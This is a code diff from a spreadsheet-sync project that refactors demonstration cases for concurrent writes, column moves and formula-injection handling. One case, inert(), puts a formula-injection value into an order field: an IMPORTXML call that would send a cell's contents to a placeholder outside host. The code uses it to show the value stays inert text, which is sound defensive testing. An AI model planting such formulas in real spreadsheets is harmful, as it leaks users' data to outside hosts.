@@ -72,7 +72,7 @@ def _short(column: str, text: str) -> str:
     return f"{key} at {version[11:16]}"
 
 
-def before_the_write(book: SmallWorkbook, act: Callable[[], None]) -> Any:
+def before_the_write(book: SmallWorkbook, act: Callable[[], object]) -> Any:
     """A way in for the sync where `act` happens between its reading and its first write."""
     done: list[bool] = []
 
@@ -145,7 +145,7 @@ def new_ones_once() -> Drawing:
     book = begun()
     before = sheet(book)
     wanted = [want("D", 2, order="#4", amount=Decimal(40)), *three()]
-    book.push(wanted, workbook=before_the_write(book, lambda: book.push(wanted) and None))
+    book.push(wanted, workbook=before_the_write(book, lambda: book.push(wanted)))
     return Drawing(
         (
             ("Before. Two syncs have read this at the same time, and both know of a new case, D.", before),
@@ -170,9 +170,8 @@ def words_put_back() -> Drawing:
 def inert() -> Drawing:
     book = begun()
     book.push([want("A", 2, order='=IMPORTXML("https://x.test/?"&B3)', amount=Decimal(10)), *three()[1:]])
-    return Drawing(
-        (("A customer calls an order `=IMPORTXML(…)`. It stands there as text; nothing runs.", sheet(book)),)
-    )
+    words = "A customer calls an order `=IMPORTXML(…)`. It stands there as text; nothing runs."
+    return Drawing(((words, sheet(book)),))
 
 
 def moved_columns() -> Drawing:
@@ -183,16 +182,11 @@ def moved_columns() -> Drawing:
     title = {"updateSheetProperties": {"properties": {"sheetId": SHEET, "title": "Our cases!"}, "fields": "title"}}
     book.staff({"moveDimension": {"source": source, "destinationIndex": 0}}, title)
     book.push(three(2, B=99))
-    return Drawing(
-        (
-            ("Before.", before),
-            (
-                "Somebody moves Amount to the far left and renames the tab. B comes to be worth 99. After the push "
-                "(drawn in the old order of columns) each value is where it belongs:",
-                sheet(book),
-            ),
-        )
+    words = (
+        "Somebody moves Amount to the far left and renames the tab, and B comes to be worth 99. After the push each "
+        "value is where it belongs (the columns are drawn in their old order):"
     )
+    return Drawing((("Before.", before), (words, sheet(book))))
 
 
 DRAWINGS: dict[str, Callable[[], Drawing]] = {
